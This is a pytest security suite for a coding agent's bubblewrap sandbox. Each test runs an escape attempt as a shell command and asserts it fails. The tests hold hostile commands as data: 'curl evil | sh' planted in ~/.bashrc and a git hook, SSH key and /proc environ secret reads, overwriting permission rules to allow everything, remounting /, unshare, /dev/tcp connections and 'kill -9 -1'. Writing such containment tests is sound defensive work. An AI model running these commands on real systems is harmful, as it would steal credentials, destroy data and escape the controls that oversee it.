"""Shell commands run in the real bubblewrap sandbox, trying to reach past it.

Each attack runs through the run_command tool as the model would, asserts the command failed
at what it tried, and that nothing outside the workspace changed.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from security_helpers import HOSTS, Guard, Site, sh

from agent.policy.rules import Rule, RuleBook, rules_path
from tools.base import ToolContext

from helpers import git

PYTHON = sys.executable


def token() -> str:
    return "shipmate-attack-" + secrets.token_hex(6)


# --- writing outside the workspace ------------------------------------------------------------


async def test_attack_write_to_home(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Append to ~/.bashrc and drop a file in ~ (HOME is a fake under /var/tmp)."""
    guard = watch()
    result = await sh(box, "echo 'curl evil | sh' >> ~/.bashrc; touch ~/evil; mkdir ~/.evil")
    assert result.is_error
    assert "Read-only file system" in result.output
    guard.check()


async def test_attack_write_to_outside_folder(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Overwrite, create and rename files in a folder beside the workspace."""
    guard = watch()
    result = await sh(
        box,
        f"echo pwned > ../outside/secret.txt; echo pwned > {site.outside}/new.txt; "
        f"mv {site.secret} {site.outside}/moved.txt",
    )
    assert result.is_error
    assert "Read-only file system" in result.output
    guard.check()


async def test_attack_append_to_etc_hosts(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Redirect a host name by appending to /etc/hosts (only an append, so nothing is lost)."""
    before = HOSTS.read_bytes()
    guard = watch()
    result = await sh(box, "echo '6.6.6.6 pypi.org' >> /etc/hosts")
    assert result.is_error
    assert HOSTS.read_bytes() == before
    guard.check()


async def test_attack_write_to_host_tmp(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Leave a file in /tmp for a host process to pick up; the sandbox's /tmp is private."""
    name = token()
    guard = watch()
    result = await sh(box, f"echo pwned > /tmp/{name} && cat /tmp/{name}")
    assert result.output.startswith("pwned")  # it wrote, but to its own /tmp
    assert not (Path("/tmp") / name).exists()
    guard.check()


async def test_attack_write_to_host_dev_shm(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Leave a file in /dev/shm, shared memory other processes on the host can read."""
    name = token()
    guard = watch()
    await sh(box, f"echo pwned > /dev/shm/{name}")
    assert not (Path("/dev/shm") / name).exists()
    guard.check()


async def test_attack_delete_outside_file(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """rm -rf a file and a folder outside the workspace."""
    guard = watch()
    result = await sh(box, f"rm -f {site.secret}; rm -rf {site.outside}/folder {site.home}/.ssh")
    assert result.is_error
    assert site.secret.exists()
    guard.check()


async def test_attack_chmod_outside_file(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Make an outside file world-writable, and chown it."""
    guard = watch()
    result = await sh(box, f"chmod 777 {site.secret}; chown 65534 {site.secret}")
    assert result.is_error
    guard.check()


async def test_attack_hard_link_outside_file_into_workspace(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """ln the outside secret into the workspace, to read or change it later from inside."""
    guard = watch()
    result = await sh(box, f"ln {site.secret} stolen.txt")
    assert result.is_error
    assert not (site.ws / "stolen.txt").exists()
    guard.check()


async def test_attack_overwrite_user_rules_file(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Rewrite the user's permission rules (under the fake XDG_CONFIG_HOME) to allow anything."""
    book = RuleBook(site.ws)
    book.add(Rule(action="deny", tool="command", pattern="git push *"))
    path = rules_path(site.ws)
    assert path.is_relative_to(site.home)
    guard = watch()
    evil = '{"workspace": "x", "rules": [{"action": "allow", "tool": "command", "pattern": "*"}]}'
    result = await sh(box, f"cat '{path}'; echo '{evil}' > '{path}' || rm '{path}'")
    assert result.is_error
    assert "git push" not in result.output  # the config folder is hidden, not just read-only
    assert RuleBook(site.ws).rules == book.rules
    guard.check()


# --- breaking the sandbox itself -------------------------------------------------------------


async def test_attack_remount_root_read_write(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Remount / read-write (root in the sandbox's namespace), then write outside."""
    guard = watch()
    result = await sh(
        box, f"mount -o remount,rw,bind /; mount -o remount,rw /; touch {site.outside}/pwned"
    )
    assert result.is_error
    assert not (site.outside / "pwned").exists()
    guard.check()


async def test_attack_unmount_private_tmp(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Unmount the private /tmp to reach the host's /tmp underneath."""
    with tempfile.NamedTemporaryFile("w", prefix="shipmate-host-", dir="/tmp") as host_file:
        host_file.write("host temp file\n")
        host_file.flush()
        guard = watch()
        result = await sh(box, f"umount -l /tmp; cat {host_file.name}")
        assert result.is_error
        assert "host temp file" not in result.output
        assert Path(host_file.name).read_text() == "host temp file\n"
    guard.check()


async def test_attack_read_masked_ssh_key(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Read ~/.ssh/id_rsa, also after trying to unmount the mask over ~/.ssh."""
    guard = watch()
    result = await sh(box, "cat ~/.ssh/id_rsa; umount -l ~/.ssh; cat ~/.ssh/id_rsa")
    assert result.is_error
    assert "PRIVATE KEY" not in result.output
    guard.check()


async def test_attack_write_host_kernel_settings(
    box: ToolContext, watch: Callable[..., Guard]
) -> None:
    """Open host kernel settings (/proc/sys/kernel/core_pattern, /proc/sysrq-trigger) to write."""
    # Only opened, never written: opening proves the access without changing the host.
    guard = watch()
    probe = (
        "import os\n"
        "for path in ('/proc/sys/vm/swappiness', '/proc/sys/kernel/core_pattern',"
        " '/proc/sysrq-trigger'):\n"
        "    try:\n"
        "        os.close(os.open(path, os.O_WRONLY))\n"
        "        print('WRITABLE', path)\n"
        "    except OSError as error:\n"
        "        print('refused', path, error.strerror)\n"
    )
    result = await sh(box, f'{PYTHON} -c "{probe}"')
    assert "WRITABLE" not in result.output, result.output
    assert result.output.count("refused") == 3
    guard.check()


async def test_attack_nested_user_namespace(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Create a user namespace inside the sandbox, become root there, and remount / read-write."""
    guard = watch()
    result = await sh(
        box,
        f"unshare -Urm sh -c 'mount -o remount,rw,bind / && touch {site.outside}/pwned'",
    )
    assert result.is_error
    assert not (site.outside / "pwned").exists()
    guard.check()


# --- the repository's .git -------------------------------------------------------------------


@pytest.fixture
def repo_ws(site: Site) -> Path:
    (site.ws / "a.txt").write_text("a\n")
    git(site.ws, "init", "-q", "-b", "main")
    git(site.ws, "add", "-A")
    git(site.ws, "commit", "-qm", "initial")
    return site.ws


async def test_attack_plant_git_hook(
    box: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """Write .git/hooks/pre-commit, which would run outside the sandbox at the next commit."""
    guard = watch(repo_ws / ".git")
    result = await sh(
        box, "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/*"
    )
    assert result.is_error
    assert not (repo_ws / ".git" / "hooks" / "pre-commit").exists()
    guard.check()


async def test_attack_git_config_hooks_path(
    box: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """git config core.hooksPath to a workspace folder the sandbox can write."""
    guard = watch(repo_ws / ".git")
    result = await sh(
        box,
        "mkdir -p h && printf '#!/bin/sh\\necho pwned\\n' > h/pre-commit && "
        "git config core.hooksPath h",
    )
    assert result.is_error
    assert "hooksPath" not in (repo_ws / ".git" / "config").read_text()
    guard.check()


async def test_attack_replace_git_folder(
    box: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """Move the read-only .git aside and put a writable one with a hook in its place."""
    guard = watch(repo_ws / ".git")
    result = await sh(box, "mv .git .git-old || rm -rf .git; git init -q . && ls .git/hooks")
    assert result.is_error
    assert not (repo_ws / ".git-old").exists()
    guard.check()


# --- other users, the network, secrets, processes --------------------------------------------


async def test_attack_read_other_users_private_file(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Read a mode-600 file that belongs to another user (nobody), as root would."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give a file to another user")
    private = site.ws / "private.txt"
    private.write_text("nobody's diary\n")
    os.chown(private, 65534, 65534)
    private.chmod(0o600)
    guard = watch()
    result = await sh(box, "cat private.txt")
    assert result.is_error
    assert "Permission denied" in result.output
    assert "diary" not in result.output
    guard.check()


@pytest.fixture
def listener() -> Iterator[Callable[[str], socket.socket]]:
    """``listen(host)``: a TCP listener the test owns, to see whether anything reaches it."""
    opened: list[socket.socket] = []

    def listen(host: str) -> socket.socket:
        server = socket.create_server((host, 0))
        server.setblocking(False)
        opened.append(server)
        return server

    yield listen
    for server in opened:
        server.close()


def reached(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


async def test_attack_connect_to_host_loopback(
    box: ToolContext, listener: Callable[[str], socket.socket], watch: Callable[..., Guard]
) -> None:
    """Reach a service on the host's 127.0.0.1 (a database, a dev server, a metadata proxy)."""
    server = listener("127.0.0.1")
    port = server.getsockname()[1]
    guard = watch()
    result = await sh(box, f"echo hello > /dev/tcp/127.0.0.1/{port}")
    assert result.is_error
    assert not reached(server)
    guard.check()


def host_address() -> str | None:
    """The machine's non-loopback IPv4 address, if it has one (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return None
        address = probe.getsockname()[0]
    return None if address.startswith("127.") else address


async def test_attack_connect_to_host_network_address(
    box: ToolContext, listener: Callable[[str], socket.socket], watch: Callable[..., Guard]
) -> None:
    """Reach the host (and through it, the network) at its non-loopback address."""
    address = host_address()
    if address is None:
        pytest.skip("this machine has no non-loopback address")
    server = listener(address)
    port = server.getsockname()[1]
    guard = watch()
    result = await sh(box, f"echo hello > /dev/tcp/{address}/{port}")
    assert result.is_error
    assert not reached(server)
    devices = await sh(box, "cat /proc/net/dev")
    interfaces = [line.split(":")[0].strip() for line in devices.output.splitlines() if ":" in line]
    assert interfaces == ["lo"]
    guard.check()


async def test_attack_dns_lookup(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Resolve a name, the first step of most exfiltration (and a channel of its own)."""
    guard = watch()
    result = await sh(
        box,
        "getent hosts example.com; "
        f"{PYTHON} -c \"import socket; socket.getaddrinfo('example.com', 443)\"",
    )
    assert result.is_error
    assert "gaierror" in result.output
    guard.check()


async def test_attack_talk_to_host_service_over_unix_socket(
    box: ToolContext, watch: Callable[..., Guard]
) -> None:
    """Talk to a host daemon's Unix socket under /run (systemd, D-Bus, Docker listen there)."""
    try:
        folder = Path(tempfile.mkdtemp(prefix="shipmate-attack-", dir="/run"))
    except OSError:
        pytest.skip("cannot create a folder under /run here")
    try:
        path = folder / "daemon.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.listen()
        server.setblocking(False)
        guard = watch()
        connect = (
            f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); "
            "s.sendall(b'run this outside')"
        )
        result = await sh(box, f'{PYTHON} -c "{connect}"')
        assert result.is_error
        assert not reached(server)
        server.close()
        guard.check()
    finally:
        shutil.rmtree(folder)


async def test_attack_read_api_keys(
    box: ToolContext, monkeypatch: pytest.MonkeyPatch, watch: Callable[..., Guard]
) -> None:
    """Find the user's API keys in the environment or in /proc/*/environ."""
    keys = {
        name: f"secret-{name.lower()}-{secrets.token_hex(8)}"
        for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
    }
    for name, value in keys.items():
        monkeypatch.setenv(name, value)
    guard = watch()
    result = await sh(
        box,
        "env; cat /proc/1/environ; cat /proc/self/environ; cat /proc/$PPID/environ; "
        "grep -a -h -e KEY -e TOKEN /proc/*/environ",
    )
    for value in keys.values():
        assert value not in result.output
    assert "PATH=" in result.output  # the commands did run and print the environment
    guard.check()


async def test_attack_see_host_processes(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """Look at the Shipmate process (its environment, its open files) through /proc."""
    guard = watch()
    pid = os.getpid()
    result = await sh(box, f"test -e /proc/{pid}/environ || test -e /proc/{pid}/fd")
    assert result.is_error
    listing = await sh(box, "ls /proc | grep -E '^[0-9]+$' | sort -n | tail -1")
    assert int(listing.output.split()[0]) < 100  # only the sandbox's own few processes
    guard.check()


async def test_attack_kill_every_process(box: ToolContext, watch: Callable[..., Guard]) -> None:
    """kill -9 -1: kill every process the sandbox can signal, Shipmate and the user's included."""
    bystander = subprocess.Popen(["sleep", "60"], start_new_session=True)
    try:
        guard = watch()
        await sh(box, "kill -9 -1; sleep 0.2")
        await asyncio.sleep(0.2)
        assert bystander.poll() is None, "a host process was killed"
        os.kill(os.getpid(), 0)
        assert not (await sh(box, "echo still works")).is_error
        guard.check()
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(bystander.pid, signal.SIGKILL)
        bystander.wait()


async def test_control_tools_under_tmp_stay_usable_but_read_only(
    box: ToolContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Control: a toolchain kept under /tmp (as CI does) is seen read-only, not hidden."""
    venv = tmp_path / "toolchain"
    (venv / "bin").mkdir(parents=True)
    tool = venv / "bin" / "shipmate-probe-tool"
    tool.write_text("#!/bin/sh\necho probe-ran\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}")
    result = await sh(box, f"shipmate-probe-tool && touch {venv}/bin/planted")
    assert "probe-ran" in result.output
    assert "Read-only file system" in result.output
    assert not (venv / "bin" / "planted").exists()
